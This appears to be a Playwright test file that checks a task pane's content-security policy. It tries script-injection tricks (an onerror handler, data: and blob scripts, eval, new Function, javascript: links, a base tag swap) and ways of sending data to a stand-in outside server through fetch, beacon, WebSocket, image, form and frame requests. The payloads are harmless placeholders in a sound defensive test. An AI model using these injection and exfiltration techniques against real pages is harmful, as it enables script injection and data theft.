import { readdir } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { eventually } from '../support/eventually';
import { StandinSuite } from '../support/standin-suite';

/**
 * The pane's content-security policy holds against whoever got a word into its page: each way to run a script of one's own or
 * to send something away is tried in the pane and, to see that it is one, in a page that forbids nothing.
 */

declare global {
  interface Window {
    /** Set by a script that should not run. */
    broken?: boolean;
    /** Directives that refused something. */
    refused: string[];
  }
}

const suite = new StandinSuite();

/** A server of somebody else, which answers everything and remembers what it was asked. */
let elsewhere: Server;
const asked: string[] = [];
const address = (): string => `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

beforeAll(async () => {
  elsewhere = createServer(({ url }, response) => {
    if (url !== '/') asked.push(url ?? '');
    const isScript = url?.endsWith('.js') ?? false;
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html',
      'access-control-allow-origin': '*',
    });
    response.end(isScript ? 'window.broken = true' : '<title>Elsewhere</title>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
});
afterAll(() => {
  elsewhere.close();
});

type Attempt = [what: string, directive: string, attempt: (elsewhere: string) => void];

const scripts: Attempt[] = [
  [
    'a script in the page',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.text = 'window.broken = true';
      document.body.append(script);
    },
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    (from) => {
      const script = document.createElement('script');
      script.src = `${from}/script.js`;
      document.body.append(script);
    },
  ],
  [
    'a script in an address',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.broken=true';
      document.body.append(script);
    },
  ],
  [
    'a script made of data',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(['window.broken = true']));
      document.body.append(script);
    },
  ],
  [
    'an imported module',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.type = 'module';
      script.src = 'data:text/javascript,window.broken=true';
      document.body.append(script);
    },
  ],
  [
    'markup that listens',
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="broken = true">');
    },
  ],
  [
    'a link that is a script',
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void (window.broken = true)';
      document.body.append(link);
      link.click();
    },
  ],
  [
    // The debugger's own evaluation may compile texts; what it leaves behind may not.
    'a text that is compiled',
    'script-src',
    () => {
      setTimeout(() => {
        (0, eval)('window.broken = true');
      });
    },
  ],
  [
    'a function made of a text',
    'script-src',
    () => {
      setTimeout(() => {
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- what must fail
        new Function('window.broken = true')();
      });
    },
  ],
  [
    'a worker made of data',
    'worker-src',
    (to) => {
      new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker')`])));
    },
  ],
];

const sending: Attempt[] = [
  ['fetch', 'connect-src', (to) => void fetch(`${to}/fetch`).catch(() => undefined)],
  [
    'XMLHttpRequest',
    'connect-src',
    (to) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${to}/xhr`);
      request.send('figures');
    },
  ],
  ['a beacon', 'connect-src', (to) => navigator.sendBeacon(`${to}/beacon`, 'figures')],
  ['an event source', 'connect-src', (to) => new EventSource(`${to}/events`)],
  ['a web socket', 'connect-src', (to) => new WebSocket(`${to.replace('http', 'ws')}/socket`)],
  [
    'a picture',
    'img-src',
    (to) => {
      new Image().src = `${to}/picture?figures`;
    },
  ],
  ['a sound', 'media-src', (to) => new Audio(`${to}/sound`)],
  ['a font', 'font-src', (to) => new FontFace('f', `url(${to}/font)`).load().catch(() => null)],
  [
    'a style sheet from elsewhere',
    'style-src-elem',
    (to) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
      link.href = `${to}/style.css`;
      document.head.append(link);
    },
  ],
  [
    'styles in the page',
    'style-src-elem',
    (to) => {
      const style = document.createElement('style');
      style.textContent = `body { background: url(${to}/background) }`;
      document.head.append(style);
    },
  ],
  [
    'styles in markup',
    'style-src-attr',
    (to) => {
      document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${to}/p)">p</p>`);
    },
  ],
  [
    'a frame',
    'frame-src',
    (to) => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${to}/frame` }));
    },
  ],
  [
    'an object',
    'object-src',
    (to) => {
      const object = document.createElement('object');
      object.data = `${to}/object`;
      document.body.append(object);
    },
  ],
  [
    'a form',
    'form-action',
    (to) => {
      const form = document.createElement('form');
      form.action = `${to}/form`;
      document.body.append(form);
      form.submit();
    },
  ],
  [
    'another base of all addresses',
    'base-uri',
    (to) => {
      document.head.append(Object.assign(document.createElement('base'), { href: `${to}/base/` }));
      window.broken = document.baseURI.startsWith(to);
    },
  ],
];

async function attemptIn(
  url: string,
  attempt: Attempt[2],
  look: (page: Page, isBroken: () => Promise<boolean>) => Promise<void>,
): Promise<void> {
  const context = await suite.browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  await page.goto(url);
  await page.evaluate(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      window.refused.push(effectiveDirective);
    });
  });
  asked.length = 0;
  await page.evaluate(attempt, address());
  await look(
    page,
    async () => asked.length > 0 || (await page.evaluate(() => window.broken === true)),
  );
  await context.close();
}

/** What a worker of this script can ask for elsewhere, and whether it may make a function of a text. */
async function attemptInWorker(pageUrl: string, script: string) {
  const context = await suite.browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  await page.goto(pageUrl);
  const starts = page.waitForEvent('worker');
  await page.evaluate((url) => {
    new Worker(url);
  }, script);
  const worker = await starts;
  asked.length = 0;
  const isCompiled = await worker.evaluate(
    ([to]) =>
      fetch(`${to}/worker`, { mode: 'no-cors' })
        .catch(() => undefined)
        .then(
          () =>
            new Promise<boolean>((resolve) => {
              setTimeout(() => {
                try {
                  // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what must fail
                  new Function('return 1');
                  resolve(true);
                } catch {
                  resolve(false);
                }
              });
            }),
        ),
    [address()],
  );
  await context.close();
  return { isAsked: asked.length > 0, isCompiled };
}

test('a worker that reads documents sends nothing elsewhere and runs no texts, where its policy is sent', async () => {
  expect(await attemptInWorker(`${address()}/`, '/worker.js')).toEqual({
    isAsked: true,
    isCompiled: true,
  });
  const name = (await readdir('dist')).find((file) => /^document-worker\..*\.js$/.test(file));
  expect(await attemptInWorker(`${suite.origin}/taskpane.html`, `/${name}`)).toEqual({
    isAsked: false,
    isCompiled: false,
  });
});

test.each([...scripts, ...sending])('%s: refused by %s', async (_, directive, attempt) => {
  await attemptIn(`${address()}/`, attempt, async (_page, isBroken) => {
    await eventually(async () => {
      expect(await isBroken()).toBe(true);
    });
  });
  await attemptIn(`${suite.origin}/taskpane.html`, attempt, async (page, isBroken) => {
    await eventually(async () => {
      expect(await page.evaluate(() => window.refused)).toContain(directive);
    });
    expect(await isBroken()).toBe(false);
    expect(asked).toEqual([]);
  });
});
